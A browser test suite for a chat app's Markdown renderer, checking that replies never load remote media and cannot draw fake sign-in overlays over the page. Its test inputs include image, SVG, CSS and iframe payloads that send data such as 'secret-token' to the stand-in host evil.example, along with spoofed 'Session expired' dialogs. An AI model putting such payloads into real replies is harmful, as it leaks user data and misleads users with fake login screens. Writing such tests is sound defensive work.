import { describe, expect, it } from 'vitest';
import { page } from 'vitest/browser';
import { render } from 'vitest-browser-svelte';
import Markdown from '$lib/components/chat/Markdown.svelte';
import { renderMarkdown } from '$lib/markdown/render';
import { srcsetUrls } from '$lib/markdown/remote-media';

const EVIL = 'https://evil.example';
const PIXEL =
	'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';
const ATTACHMENT = '/api/attachments/0b9f6a8e-3c2d-4f1a-9e7b-5d4c3b2a1f00/content?expires=1';

/** The reply as the browser would hold it, parsed where nothing loads. */
function rendered(source: string): HTMLElement {
	const template = document.createElement('template');
	template.innerHTML = renderMarkdown(source);
	const root = document.createElement('div');
	root.append(template.content);
	return root;
}

/** Every URL in the tree the browser would fetch by itself (links wait for a click). */
function fetchedUrls(root: Element): string[] {
	const urls: string[] = [];
	for (const element of root.querySelectorAll('*')) {
		for (const { name, value } of element.attributes) {
			if (name === 'href' && element.localName === 'a') continue;
			if (name === 'title' || name === 'alt') continue;
			if (/^(src|srcset|poster|href|xlink:href|background|data)$/.test(name)) urls.push(value);
			else if (/url\s*\(|\/\//i.test(value)) urls.push(value);
		}
	}
	return urls;
}

const chips = (root: Element) => [...root.querySelectorAll<HTMLElement>('.remote-media')];

/** The one chip a vector should turn into, checked the way a person would see and use it. */
function expectOneChip(root: Element, href: string, text = 'image from evil.example') {
	const [chip, ...more] = chips(root);
	expect(more).toHaveLength(0);
	expect(chip.localName).toBe('a');
	expect(chip.textContent).toBe(text);
	expect(chip.getAttribute('href')).toBe(href);
	expect(chip.getAttribute('target')).toBe('_blank');
	expect(chip.getAttribute('rel')).toBe('noopener noreferrer nofollow');
	expect(fetchedUrls(root).filter((url) => url.includes('evil.example'))).toEqual([]);
}

describe('renderMarkdown', () => {
	describe('never loads a remote resource', () => {
		it('shows a markdown image as a chip that links to it', () => {
			const root = rendered(`Here: ![chart](${EVIL}/?d=secret-token)`);
			expect(root.querySelector('img')).toBeNull();
			expectOneChip(root, `${EVIL}/?d=secret-token`);
		});

		it('shows a raw <img> as a chip, with its host in the text', () => {
			const root = rendered(`<img src="${EVIL}/pixel.gif?d=1" width="1" height="1">`);
			expect(root.querySelector('img')).toBeNull();
			expectOneChip(root, `${EVIL}/pixel.gif?d=1`);
		});

		it('does not load a protocol-relative or uppercase-scheme image either', () => {
			const root = rendered(
				`<img src="//evil.example/a.png"> <IMG SRC="HTTPS://EVIL.EXAMPLE/b.png">`
			);
			expect(root.querySelector('img')).toBeNull();
			expect(chips(root).map((chip) => chip.getAttribute('href'))).toEqual([
				`${location.protocol}//evil.example/a.png`,
				`${EVIL}/b.png`
			]);
		});

		it('turns an image with a remote srcset into a chip, even beside an inline src', () => {
			expectOneChip(rendered(`<img srcset="${EVIL}/a.png 1x, ${EVIL}/b.png 2x">`), `${EVIL}/a.png`);
			expectOneChip(rendered(`<img src="${PIXEL}" srcset="${EVIL}/b.png 2x">`), `${EVIL}/b.png`);
		});

		it('turns a <picture> with a remote <source srcset> into one chip', () => {
			const root = rendered(
				`<picture><source srcset="${EVIL}/a.webp" type="image/webp"><img src="${PIXEL}" alt="x"></picture>`
			);
			expect(root.querySelector('picture, source, img')).toBeNull();
			expectOneChip(root, `${EVIL}/a.webp`);
		});

		it('takes an SVG <image> (href or xlink:href) and <feImage> out, with a chip after the SVG', () => {
			const root = rendered(
				`<svg width="10" height="10"><image href="${EVIL}/a.png" width="10" height="10"/>` +
					`<image xlink:href="${EVIL}/b.png"/><filter><feImage href="${EVIL}/c.png"/></filter>` +
					`<rect width="5" height="5"/></svg>`
			);
			const svg = root.querySelector('svg')!;
			expect(svg.querySelector('image, feImage')).toBeNull();
			expect(svg.querySelector('rect')).not.toBeNull();
			expect(chips(root).map((chip) => [chip.localName, chip.getAttribute('href')])).toEqual([
				['a', `${EVIL}/a.png`],
				['a', `${EVIL}/b.png`],
				['a', `${EVIL}/c.png`]
			]);
			expect(chips(root).every((chip) => chip.namespaceURI === 'http://www.w3.org/1999/xhtml'));
		});

		it('turns a <video> with a remote poster, and an <audio>, into chips', () => {
			expectOneChip(
				rendered(`<video poster="${EVIL}/p.png" controls></video>`),
				`${EVIL}/p.png`,
				'video from evil.example'
			);
			expectOneChip(
				rendered(`<audio src="${EVIL}/a.mp3" autoplay></audio>`),
				`${EVIL}/a.mp3`,
				'audio from evil.example'
			);
			expectOneChip(
				rendered(`<video><source src="${EVIL}/v.mp4"><track src="${EVIL}/t.vtt"></video>`),
				`${EVIL}/v.mp4`,
				'video from evil.example'
			);
		});

		it('shows an image inside a link as text in that link, not a second link', () => {
			const root = rendered(`[![badge](${EVIL}/badge.svg)](https://example.com/project)`);
			const link = root.querySelector('a')!;
			expect(link.getAttribute('href')).toBe('https://example.com/project');
			expect(root.querySelectorAll('a')).toHaveLength(1);
			expect(link.querySelector('.remote-media')?.textContent).toBe('image from evil.example');
		});

		it('drops style attributes, <style> and <link>, and legacy background images', () => {
			const root = rendered(
				`<p style="background:url(${EVIL}/bg.png)">text</p>` +
					`<style>@import url(${EVIL}/a.css); p { color: red }</style>` +
					`<link rel="stylesheet" href="${EVIL}/b.css">` +
					`<table background="${EVIL}/t.png"><tr><td background="${EVIL}/c.png">x</td></tr></table>`
			);
			expect(root.querySelector('[style], style, link, [background]')).toBeNull();
			expect(root.querySelector('p')?.textContent).toBe('text');
			expect(fetchedUrls(root)).toEqual([]);
		});

		it('drops SVG paint, filter and mask references to other sites, keeping local ones', () => {
			const root = rendered(
				`<svg><defs><linearGradient href="${EVIL}/g.svg#g"/></defs>` +
					`<rect fill="url(#local)" stroke="url('${EVIL}/s.svg#p')" filter="url(${EVIL}/f.svg#f)"` +
					` mask="u\\72l(//evil.example/m.svg)" clip-path="image-set('${EVIL}/c.png' 1x)"/></svg>`
			);
			const rect = root.querySelector('rect')!;
			expect(rect.getAttribute('fill')).toBe('url(#local)');
			for (const name of ['stroke', 'filter', 'mask', 'clip-path'])
				expect(rect.hasAttribute(name)).toBe(false);
			expect(root.querySelector('linearGradient')?.hasAttribute('href')).toBe(false);
			expect(fetchedUrls(root)).toEqual(['url(#local)']);
		});

		it('never lets a page-level element through: frames, objects, meta refresh, base', () => {
			const root = rendered(
				`<iframe src="${EVIL}/f"></iframe><object data="${EVIL}/o"></object><embed src="${EVIL}/e">` +
					`<meta http-equiv="refresh" content="0;url=${EVIL}/r"><base href="${EVIL}/">` +
					`<input type="image" src="${EVIL}/i.png"><script src="${EVIL}/s.js"></script>`
			);
			expect(root.querySelector('iframe, object, embed, meta, base, input, script')).toBeNull();
			expect(fetchedUrls(root)).toEqual([]);
		});
	});

	describe('still shows what is safe to load', () => {
		it('shows data: images inline', () => {
			const root = rendered(`![pixel](${PIXEL}) <img src="${PIXEL}" alt="raw">`);
			expect([...root.querySelectorAll('img')].map((img) => img.getAttribute('src'))).toEqual([
				PIXEL,
				PIXEL
			]);
			expect(chips(root)).toHaveLength(0);
		});

		it("shows the app's own attachments inline, but no other same-origin URL", () => {
			const root = rendered(
				`![photo](${ATTACHMENT}) ![abs](${location.origin}${ATTACHMENT}) ![out](/logout)`
			);
			expect([...root.querySelectorAll('img')].map((img) => img.getAttribute('alt'))).toEqual([
				'photo',
				'abs'
			]);
			expect(chips(root).map((chip) => chip.textContent)).toEqual([`image from ${location.host}`]);
		});

		it('renders links that open in a new tab without a referrer', () => {
			const root = rendered(
				'[docs](https://example.com/docs "The docs") <a href="https://example.com/raw" target="_self">raw</a>'
			);
			const links = [...root.querySelectorAll('a')];
			expect(links.map((link) => link.getAttribute('href'))).toEqual([
				'https://example.com/docs',
				'https://example.com/raw'
			]);
			for (const link of links) {
				expect(link.getAttribute('target')).toBe('_blank');
				expect(link.getAttribute('rel')).toBe('noopener noreferrer nofollow');
			}
			expect(links[0].getAttribute('title')).toBe('The docs');
		});

		it('renders tables', () => {
			const root = rendered('| Name | Qty |\n| :--- | --: |\n| apple | 3 |\n| pear | 5 |');
			expect([...root.querySelectorAll('th')].map((th) => th.textContent)).toEqual(['Name', 'Qty']);
			expect([...root.querySelectorAll('td')].map((td) => td.textContent)).toEqual([
				'apple',
				'3',
				'pear',
				'5'
			]);
			expect(root.querySelectorAll('td')[1].getAttribute('align')).toBe('right');
		});

		it('keeps code blocks with their highlighting and Copy button', () => {
			const root = rendered(
				'```ts\nfunction greet(name: string) {\n\treturn `hi ${name}`;\n}\n```'
			);
			const block = root.querySelector('.code-block')!;
			expect(block.querySelector('.code-header span')?.textContent).toBe('ts');
			expect(block.querySelector('button.copy-code[data-copy-code]')?.textContent).toBe('Copy');
			expect(block.querySelector('code')?.className).toBe('hljs language-ts');
			expect(block.querySelector('.hljs-keyword')?.textContent).toBe('function');
			expect(block.querySelector('.hljs-title.function_')?.textContent).toBe('greet');
		});
	});

	describe('cannot draw over the page', () => {
		it('keeps only the classes the renderer writes', () => {
			const root = rendered(
				'<div class="backdrop svelte-1x2y3z4 btn primary">Sign in</div><span class="visually-hidden hljs-string">x</span>'
			);
			expect(root.querySelector('div')?.hasAttribute('class')).toBe(false);
			expect(root.querySelector('span')?.className).toBe('hljs-string');
		});

		it('drops dialogs, popovers and invoker buttons', () => {
			const root = rendered(
				'<dialog open>Your session expired</dialog><div popover id="fake">Sign in</div>' +
					'<button popovertarget="fake" commandfor="fake" command="show-popover">Continue</button>'
			);
			expect(
				root.querySelector('dialog, [popover], [id], [popovertarget], [commandfor]')
			).toBeNull();
			expect(root.textContent).toContain('Your session expired');
		});

		it('keeps a full-screen overlay attempt inside the reply, in its normal place', async () => {
			const screen = await render(Markdown, {
				source:
					'Before\n\n<div style="position:fixed;inset:0;z-index:99999;background:white" class="overlay svelte-abc123">' +
					'<h1>Session expired</h1><p>Sign in again</p></div>\n\n' +
					'<svg width="10" height="10" overflow="visible"><rect width="10000" height="10000" fill="red"/></svg>\n\n' +
					'<math><mpadded width="0" height="0" depth="0" voffset="-300px"><mspace width="3000px" height="3000px" mathbackground="red"/></mpadded></math>'
			});
			await expect.element(page.getByText('Session expired')).toBeInTheDocument();
			const markdown = screen.container.querySelector<HTMLElement>('.markdown')!;
			const overlay = markdown.querySelector<HTMLElement>('div')!;
			expect(getComputedStyle(overlay).position).toBe('static');
			expect(getComputedStyle(markdown).contain).toContain('paint');
			const box = markdown.getBoundingClientRect();
			// Whatever a reply draws is clipped to its own box: the SVG's and the formula's giant
			// rectangles too. (The point below it is on screen, so something else answers there.)
			expect(box.bottom + 30).toBeLessThan(innerHeight);
			const hit = document.elementFromPoint(box.left + 5, box.bottom + 30);
			expect(hit).not.toBeNull();
			expect(markdown.contains(hit)).toBe(false);
			expect(getComputedStyle(markdown.querySelector('svg')!).overflow).toBe('hidden');
		});
	});
});

describe('srcsetUrls', () => {
	it('reads each candidate URL, commas inside data: URLs included', () => {
		expect(srcsetUrls('a.png 1x, b.png 2x')).toEqual(['a.png', 'b.png']);
		expect(srcsetUrls('a.png,b.png')).toEqual(['a.png,b.png']);
		expect(srcsetUrls(' a.png,  b.png 100w ,c.png')).toEqual(['a.png', 'b.png', 'c.png']);
		expect(srcsetUrls('data:image/png;base64,AAA= 1x, x.png 2x')).toEqual([
			'data:image/png;base64,AAA=',
			'x.png'
		]);
	});
});
